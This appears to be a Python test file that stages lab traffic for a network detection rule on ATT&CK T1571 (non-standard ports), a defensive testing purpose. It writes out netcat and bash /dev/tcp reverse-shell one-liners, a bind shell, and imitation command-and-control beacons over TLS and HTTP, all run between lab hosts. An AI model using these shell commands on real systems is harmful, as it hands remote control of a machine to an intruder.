"""The four tests of the reference rule for ATT&CK T1571, and their near kin."""

from __future__ import annotations

import subprocess
import time

import retime
from case import Flow, case, moved
from lab import INSIDE, OUTSIDE, SERVER, Lab

COMMANDS = (
    "id", "uname -so", "pwd", "ls -la /etc/ssl", "cat /etc/os-release", "ip -br addr show", "cat /etc/resolv.conf",
    "hostname; umask", "nosuchcommand", "ls /nowhere", "date -u",
)  # fmt: skip


def type_commands(operator: subprocess.Popen[bytes], commands: tuple[str, ...] = COMMANDS, pause: float = 0.7) -> None:
    """Type at an operator's listener as a person would: one line, then wait for what comes back."""
    assert operator.stdin is not None
    time.sleep(1)
    for line in (*commands, "exit"):
        operator.stdin.write(line.encode() + b"\n")
        operator.stdin.flush()
        time.sleep(pause)
    operator.stdin.close()


def nginx(lab: Lab, name: str, listen: str, server: str = "") -> None:
    """Start nginx in the lab with one ``server`` block."""
    root = lab.folder(f"www-{name}")
    (root / "index.html").write_text("<html><body>It works.</body></html>\n")
    (root / "tasks").write_text('{"id": 17, "task": "sleep", "seconds": 60}\n')
    conf = f"""daemon off; worker_processes 1; pid {root}/nginx.pid; error_log {root}/error.log; user root;
events {{}}
http {{
  access_log off; default_type text/plain; server_names_hash_bucket_size 128;
  client_body_temp_path {root}/body; proxy_temp_path {root}/proxy; fastcgi_temp_path {root}/f; uwsgi_temp_path {root}/u; scgi_temp_path {root}/s;
  server {{ listen {listen}; root {root}; {server} }}
}}
"""
    path = lab.file(f"nginx-{name}.conf", conf)
    port = listen.split()[0].rsplit(":", 1)[-1]
    lab.start(OUTSIDE, "nginx", "-c", path, ready=f"tcp:{port}")


def tls_server(lab: Lab, name: str, listen: str, certificate: str, issuer: str | None = None) -> None:
    """Start nginx with TLS."""
    key, cert = lab.certificate(certificate, issuer=issuer)
    nginx(lab, name, listen, f"ssl_certificate {cert}; ssl_certificate_key {key};")


@case(
    "t1571-1-netcat-shell-4444",
    "A shell over netcat on 4444",
    [Flow("tcp", 4444, None, "unknown", connections=1, min_severity="high", shell=True)],
    debian=("ncat", "bash"),
)
def netcat_shell(lab: Lab) -> None:
    """Test 1 of the reference rule: a host inside connects to a listener on port 4444 and hands it an interactive shell; the operator types
    commands, prompts and their output go back."""
    with lab.capture():
        operator = lab.start(OUTSIDE, "ncat", "-l", "-n", SERVER, "4444", stdin=subprocess.PIPE, ready="tcp:4444")
        lab.start(INSIDE, "ncat", SERVER, "4444", "-c", "exec /bin/sh -i 2>&1")
        type_commands(operator)


@case(
    "reverse-shell-bash-1337",
    "A shell of bash's own, without netcat, on 1337",
    [Flow("tcp", 1337, None, "unknown", connections=1, min_severity="high", shell=True)],
    debian=("ncat", "bash"),
)
def bash_shell(lab: Lab) -> None:
    """An interactive bash over /dev/tcp, as one-liners of intrusions start it: bash's prompt with user and host name, and its complaint
    that it has no job control."""
    with lab.capture():
        operator = lab.start(OUTSIDE, "ncat", "-l", "-n", SERVER, "1337", stdin=subprocess.PIPE, ready="tcp:1337")
        lab.start(INSIDE, "bash", "-c", rf"export PS1='\u@\h:\w\$ '; exec bash --norc -i >& /dev/tcp/{SERVER}/1337 0>&1")
        type_commands(operator)


@case(
    "bind-shell-inbound-9090",
    "A shell that waits inside, reached from outside on 9090",
    [Flow("tcp", 9090, None, "unknown", connections=1, shell=True)],
    debian=("ncat", "bash"),
)
def bind_shell(lab: Lab) -> None:
    """The other way round: a listener inside gives a shell to whoever connects; the client outside types, the responder prompts."""
    with lab.capture():
        lab.start(INSIDE, "ncat", "-l", "-n", "10.20.0.5", "9090", "-c", "exec /bin/sh -i 2>&1", ready="tcp:9090")
        type_commands(lab.start(OUTSIDE, "ncat", "10.20.0.5", "9090", stdin=subprocess.PIPE))


@case(
    "t1571-2-https-beacon-8088",
    "TLS on 8088, once a minute",
    [moved("tcp", 8088, "tls", connections=30, min_severity="medium", beacon={"period_s": 60.0, "jitter": 0.1})],
    debian=("nginx-light", "curl"),
    notes="The 30 connections were made two seconds apart and then moved to 60 s ± 10 % by `retime.py` with seed 1571; bytes and the times within a "
    "connection are as captured.",
)
def https_beacon(lab: Lab) -> None:
    """Test 2 of the reference rule: curl asks a server with a self-signed certificate for its task over TLS on port 8088, thirty times."""
    tls_server(lab, "c2", f"{SERVER}:8088 ssl", "203-0-113-10.example")
    with lab.capture("tcp"):
        for _ in range(30):
            lab.run(INSIDE, "curl", "-sk", f"https://{SERVER}:8088/tasks", "-o", "/dev/null")
            time.sleep(0.2)
    retime.space_out(lab.pcap, period_s=60, jitter=0.1, seed=1571)


@case(
    "https-beacon-2083-live",
    "TLS on 2083, every three seconds, as it happened",
    [moved("tcp", 2083, "tls", connections=25, beacon={"period_s": 3.0, "jitter": 0.15}, server_name="cdn.status-page.example")],
    debian=("nginx-light", "curl"),
)
def https_beacon_live(lab: Lab) -> None:
    """A beacon in its own time, none of it moved: 25 connections with sleeps of 3 s ± 10 % between, TLS with a server name, on a port that WIRTE
    used (and that Cloudflare and cPanel serve)."""
    import random

    draw = random.Random(2083)
    tls_server(lab, "c2", f"{SERVER}:2083 ssl", "cdn.status-page.example")
    begin = time.monotonic()
    with lab.capture("tcp"):
        for _ in range(25):
            lab.run(
                INSIDE, "curl", "-sk", "--resolve", f"cdn.status-page.example:2083:{SERVER}", "https://cdn.status-page.example:2083/tasks"
            )
            begin += 3 * draw.uniform(0.9, 1.1)
            time.sleep(max(0.0, begin - time.monotonic()))


@case(
    "t1571-3-rdp-33890",
    "Remote desktop on 33890",
    [moved("tcp", 33890, "rdp", min_severity="high")],
    debian=("xrdp", "freerdp2-x11", "xvfb"),
)
def rdp(lab: Lab) -> None:
    """Test 3 of the reference rule, seen from the network: a remote desktop server that was moved to port 33890, and a client that connects
    to it, with TLS inside the protocol's own negotiation and then with the protocol's standard security. (These two versions of client and
    server part over a channel once the connection is secured, and the client tries again: each connection is short.)"""
    key, cert = lab.certificate("rdp.example")
    rsa = lab.file("rsakeys.ini", "")
    lab.run(OUTSIDE, "xrdp-keygen", "xrdp", rsa)
    ini = f"""[Globals]
ini_version=1
fork=true
port=tcp://{SERVER}:33890
security_layer=negotiate
crypt_level=high
certificate={cert}
key_file={key}
ssl_protocols=TLSv1.2, TLSv1.3
max_bpp=16
bitmap_compression=true
[Logging]
LogFile={lab.dir}/xrdp.log
LogLevel=INFO
EnableSyslog=false
[Xorg]
name=Xorg
lib=libxup.so
username=ask
password=ask
ip=127.0.0.1
port=-1
"""
    lab.start(OUTSIDE, "xrdp", "-n", "-c", lab.file("xrdp.ini", ini), ready="tcp:33890")
    lab.start(INSIDE, "Xvfb", ":77", "-screen", "0", "640x480x16", "-nolisten", "tcp")
    time.sleep(2)
    with lab.capture("tcp"):
        for security in ("tls", "rdp"):
            argv = [
                "xfreerdp",
                f"/v:{SERVER}:33890",
                "/u:admin",
                "/p:x",
                f"/sec:{security}",
                "/cert:ignore",
                "/size:320x240",
                "/bpp:8",
                "-clipboard",
                "/audio-mode:2",
                "-heartbeat",
                "-multitransport",
                "/network:lan",
            ]
            lab.run(INSIDE, *argv, env={"DISPLAY": ":77"}, timeout=6, ok=None)


@case(
    "t1571-4-http-beacon-9001",
    "HTTP on 9001, ten times, a minute apart",
    [moved("tcp", 9001, "http", connections=10, min_severity="medium", beacon={"period_s": 60.0, "jitter": 0.03})],
    debian=("nginx-light", "curl"),
    notes="The ten connections were made at once and then moved to 60 s ± 2 % by `retime.py` with seed 9001; bytes and the times within a "
    "connection are as captured.",
)
def http_beacon(lab: Lab) -> None:
    """Test 4 of the reference rule: ten connections to port 9001, about 60 s apart, plain HTTP with a borrowed user agent."""
    nginx(lab, "c2", f"{SERVER}:9001")
    agent = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1237"
    with lab.capture("tcp"):
        for _ in range(10):
            lab.run(INSIDE, "curl", "-s", "-A", agent, f"http://{SERVER}:9001/tasks")
    retime.space_out(lab.pcap, period_s=60, jitter=0.02, seed=9001)
